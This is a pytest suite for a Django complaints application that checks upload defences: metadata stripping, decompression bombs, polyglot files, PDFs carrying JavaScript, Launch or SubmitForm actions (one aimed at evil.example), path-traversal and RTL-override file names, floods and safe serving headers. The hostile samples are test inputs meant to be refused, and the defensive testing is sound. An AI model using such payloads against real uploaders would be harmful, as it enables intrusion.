"""The corpus of bad uploads: bombs, files that are two things, active PDFs, locations, names, floods (SEC-04)."""

from __future__ import annotations

import datetime as dt
import gzip
import io
import os
import tracemalloc
import uuid
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from complaints.models import Complaint
from core.errors import InvalidInput
from core.records.models import Attachment
from core.records.services import attachments_add, files_sweep
from core.time import now
from core.web.uploads import LimitedUpload
from tests.cast import FRIDAY, Cast
from tests.complaints.actions import PDF
from tests.factories.complaints import complaint
from tests.records.test_files import clean, huge_png, picture
from tests.unchanged import nothing_changes

pytestmark = pytest.mark.rule("SEC-04")
GPS = ((31.0, 13.0, 49.0), (121.0, 28.0, 12.0))


def refused(content: bytes, name: str = "照片.jpg") -> str:
    with pytest.raises(InvalidInput) as refusal:
        clean(content, name)
    assert refusal.value.field == "files"
    return refusal.value.code


# --- Where it was taken -------------------------------------------------------------------------------


def exif() -> Image.Exif:
    made = Image.Exif()
    made[0x0110] = "PhoneModel"
    made.get_ifd(0x8825).update({1: "N", 2: GPS[0], 3: "E", 4: GPS[1]})
    return made


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>31,13.8N</exif:GPSLatitude></x:xmpmeta>'


def located(kind: str) -> bytes:
    more: dict[str, Any] = {"exif": exif().tobytes()}
    if kind == "PNG":
        info = PngInfo()
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
        info.add_text("GPSLatitude", "31.2304")
        more["pnginfo"] = info
    elif kind in ("JPEG", "WEBP"):
        more["xmp"] = XMP
    return picture(kind, **more)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_the_stored_bytes_have_no_location(kind: str) -> None:
    """In EXIF, in PNG's own eXIf and text chunks, in XMP; parsed again, and looked for byte by byte."""
    original = located(kind)
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(0x8825)[2] == GPS[0]
    assert b"GPSLatitude" in original

    kept = clean(original).content

    with Image.open(io.BytesIO(kept)) as after:
        assert after.format == "JPEG"
        assert dict(after.getexif()) == {}
        assert dict(after.getexif().get_ifd(0x8825)) == {}
        assert after.info.keys() <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    for trace in (b"GPS", b"Exif", b"xmp", b"PhoneModel", b"31.2304"):
        assert trace not in kept


# --- Bombs --------------------------------------------------------------------------------------------


def test_a_picture_that_is_too_large_is_not_unpacked() -> None:
    tracemalloc.start()
    for bomb in (huge_png(10_000, 10_000), huge_png(65_000, 65_000)):
        assert refused(bomb) == "picture_too_many_pixels"
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000


def test_text_in_a_picture_that_unpacks_to_much_is_refused() -> None:
    info = PngInfo()
    info.add(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 70_000_000, 9))
    assert refused(picture("PNG", pnginfo=info)) == "file_type_refused"


def test_a_large_picture_of_a_phone_is_drawn_smaller() -> None:
    with Image.open(io.BytesIO(clean(picture("JPEG", size=(8000, 6000))).content)) as kept:
        assert kept.size == (4096, 3072)


def test_a_packed_bomb_is_no_picture() -> None:
    assert refused(gzip.compress(b"\0" * 1_000_000)) == "file_type_refused"


def test_a_pdf_that_unpacks_to_much_is_refused_or_never_unpacked() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(PDF))
    writer.pages[0][NameObject("/X")] = TextStringObject("x")
    out = io.BytesIO()
    writer.write(out)
    tracemalloc.start()
    clean(out.getvalue(), "a.pdf")
    assert tracemalloc.get_traced_memory()[1] < 20_000_000
    tracemalloc.stop()


# --- Two things at once, and nothing of what the name says --------------------------------------------


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.js", "alert(1)")
    return out.getvalue()


HTML = b"<html><script>alert(1)</script></html>"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"GIF89a=1;/*" + b"\0" * 40 + b"*/alert(1);", "file_type_refused"),
        (HTML, "file_type_refused"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "file_type_refused"),
        (zipped(), "file_type_refused"),
        (b"\x00\x00\x00\x20ftypisom" + b"\0" * 200, "video_refused"),
        (b"\x00\x00\x00\x14ftypqt  " + b"\0" * 200, "video_refused"),
        (b"\x1aE\xdf\xa3" + b"\0" * 200, "video_refused"),
        (b"RIFF\0\0\0\0AVI LIST", "video_refused"),
        (b"\x00\x00\x00\x18ftypheic" + b"\0" * 200, "heic_refused"),
        (b"\x00\x00\x00\x18ftypmif1" + b"\0" * 200, "heic_refused"),
        (b"", "file_empty"),
        (HTML + PDF, "file_type_refused"),
        (b"%PDF-1.4\n" + HTML + PDF, "pdf_damaged"),
        (PDF + zipped(), "pdf_damaged"),
        (PDF + zipped()[:-2] + (6).to_bytes(2, "little") + b"\n%%EOF", "pdf_damaged"),
        (PDF + HTML, "pdf_damaged"),
        (b"%PDF-1.7\n%%EOF", "pdf_damaged"),
    ],
)  # fmt: skip
def test_what_is_something_else_is_refused_with_the_reason(content: bytes, code: str) -> None:
    for name in ("照片.jpg", "协议.pdf", "视频.mp4"):
        assert refused(content, name) == code


@pytest.mark.parametrize("hidden", [zipped(), HTML, b"/*alert(1)*/", PDF])
def test_what_hides_behind_a_picture_does_not_survive(hidden: bytes) -> None:
    kept = clean(picture("JPEG", comment=hidden) + hidden).content
    assert hidden not in kept
    assert not zipfile.is_zipfile(io.BytesIO(kept))


# --- PDFs that act ------------------------------------------------------------------------------------


def pdf_with(change: Any) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(PDF))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **more: str) -> DictionaryObject:
    names = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(
        {**names, **{NameObject(f"/{key}"): TextStringObject(v) for key, v in more.items()}}
    )


def _open_action(action: DictionaryObject) -> Any:
    return lambda writer: writer._root_object.update({NameObject("/OpenAction"): action})


def _orphan(writer: PdfWriter) -> None:
    writer._add_object(_action("/JavaScript", JS="app.alert(1)"))


ACTIVE: dict[str, Any] = {
    "script of a page": lambda writer: writer.pages[0].update(
        {NameObject("/AA"): DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})}
    ),
    "script when opened": _open_action(_action("/JavaScript", JS="app.alert(1)")),
    "program": _open_action(_action("/Launch", F="calc.exe")),
    "form that sends": _open_action(_action("/SubmitForm", F="https://evil.example")),
    "another file": lambda writer: writer.add_attachment("evil.exe", b"MZ"),
    "a script nothing points to": _orphan,
}


@pytest.mark.parametrize("kind", ACTIVE)
def test_a_pdf_that_acts_or_carries_something_is_refused(kind: str) -> None:
    assert refused(pdf_with(ACTIVE[kind]), "协议.pdf") == "pdf_active"


def test_a_locked_pdf_is_refused() -> None:
    assert refused(pdf_with(lambda writer: writer.encrypt("secret")), "协议.pdf") == "pdf_locked"


def test_a_pdf_that_is_locked_only_against_changes_is_looked_into() -> None:
    assert clean(pdf_with(lambda writer: writer.encrypt("", "owner")), "协议.pdf")

    def both(writer: PdfWriter) -> None:
        _orphan(writer)
        writer.encrypt("", "owner")

    assert refused(pdf_with(both), "协议.pdf") == "pdf_active"


def test_a_plain_pdf_with_links_and_compressed_objects_is_kept_byte_for_byte() -> None:
    def links(writer: PdfWriter) -> None:
        uri = _action("/URI", URI="https://example.com")
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): TextStringObject("first")}
        )
        writer._add_object(uri)

    content = pdf_with(links)
    assert clean(content, "协议.pdf").content == content
    assert len(PdfReader(io.BytesIO(content)).pages) == 1


# --- Floods -------------------------------------------------------------------------------------------


def test_a_flood_is_counted_while_it_arrives_and_let_go_of(settings: Any) -> None:
    settings.UPLOAD_MAX_BYTES, settings.UPLOAD_REQUEST_MAX_BYTES = 1000, 2500
    handler = LimitedUpload()

    def upload(*chunks: int) -> tuple[list[bool], Any]:
        handler.new_file("uploads", "a.jpg", "image/jpeg", None)
        passed = [handler.receive_data_chunk(b"x" * size, 0) is not None for size in chunks]
        return passed, handler.file_complete(sum(chunks))

    assert upload(500, 500) == ([True, True], None)
    passed, told = upload(600, 600, 10)
    assert passed == [True, False, False]
    assert (told.name, told.size, told.read()) == ("a.jpg", 1210, b"")
    passed, told = upload(400)  # the request as a whole is too large by now
    assert (passed, told.size) == ([False], 1001)


def _post(client: Client, mine: Complaint, *uploads: Any) -> Any:
    url = reverse("complaint_act", args=[mine.case.number, "add-files"])
    return client.post(url, {"request_id": str(uuid.uuid4()), "uploads": list(uploads)})


def test_a_huge_file_is_refused_by_name_and_not_stored(
    cast: Cast, client: Client, settings: Any, tmp_path: Path
) -> None:
    settings.FILE_UPLOAD_TEMP_DIR, settings.UPLOAD_MAX_BYTES = str(tmp_path), 3_000_000
    settings.ATTACHMENT_MAX_BYTES = 3_000_000
    mine = complaint(cast)
    client.force_login(cast.clerk)
    folders = stored()
    with nothing_changes():
        answer = _post(client, mine, SimpleUploadedFile("巨大.jpg", b"\0" * 9_000_000))
    assert answer.status_code == 422
    assert "巨大.jpg" in answer.content.decode()
    assert "larger than 3 MB" in answer.content.decode()
    assert stored() == folders
    assert all(file.stat().st_size <= 3_000_000 for file in tmp_path.iterdir())


def test_too_many_files_are_refused_with_the_number(cast: Cast, client: Client, settings: Any) -> None:
    settings.ATTACHMENTS_PER_CASE = 3
    mine = complaint(cast)
    client.force_login(cast.clerk)
    with nothing_changes():
        answer = _post(client, mine, *(SimpleUploadedFile(f"{n}.jpg", picture()) for n in range(4)))
    assert answer.status_code == 422
    assert "at most 3 files" in answer.content.decode()


@pytest.mark.parametrize(
    "name", ["../../x.jpg", "a\0b.jpg", "x" * 300 + ".jpg", "\u202egpj.exe", "..\\..\\x.jpg", "."]
)
def test_no_name_becomes_a_path(cast: Cast, name: str) -> None:
    (kept,) = attachments_add(
        case=complaint(cast).case,
        uploads=[SimpleUploadedFile("p", picture(), "image/jpeg")],
        by=cast.clerk,
        at=FRIDAY,
    )
    assert len(kept.file.name) == len("attachments/00/") + 32
    shown = clean(picture(), name).name
    assert len(shown) <= 120
    assert not set("/\\\0\u202e") & set(shown)


# --- Served -------------------------------------------------------------------------------------------


def test_a_file_is_served_so_that_nothing_in_it_can_act(cast: Cast, client: Client) -> None:
    mine = complaint(
        cast, uploads=[SimpleUploadedFile("照片.jpg", picture()), SimpleUploadedFile("a.pdf", PDF)]
    )
    client.force_login(cast.clerk)
    for attachment, disposition in zip(
        mine.case.attachments.order_by("pk"), ("inline", "attachment"), strict=True
    ):
        answer = client.get(reverse("attachment_open", args=[attachment.pk]))
        b"".join(answer)  # type: ignore[arg-type]
        assert answer["Content-Disposition"].startswith(disposition)
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
        assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
        assert answer["Cache-Control"] == "private, no-store"


# --- Left behind --------------------------------------------------------------------------------------


def stored() -> set[str]:
    root = Path(django_settings.MEDIA_ROOT) / "attachments"
    return {str(file.relative_to(root.parent)) for file in root.rglob("*") if file.is_file()}


def age(name: str, days: float) -> None:
    then = (now() - dt.timedelta(days=days)).timestamp()
    os.utime(default_storage.path(name), (then, then))


def test_the_file_of_a_change_that_failed_late_is_swept(cast: Cast) -> None:
    mine = complaint(cast, uploads=[SimpleUploadedFile("照片.jpg", picture())])
    kept = mine.case.attachments.get().file.name
    left, young = "attachments/ab/left", "attachments/ab/young"
    for name in (left, young):
        default_storage.save(name, ContentFile(b"x"))
    for name, days in ((kept, 9), (left, 1.1), (young, 0.9)):
        age(name, days)
    before = stored()
    assert files_sweep(at=now()) >= 1
    assert left not in stored()
    assert {kept, young} <= stored()
    assert files_sweep(at=now()) == 0
    default_storage.delete(young)
    with Attachment.objects.get().file.open() as file:
        assert file.read()
    assert kept in before
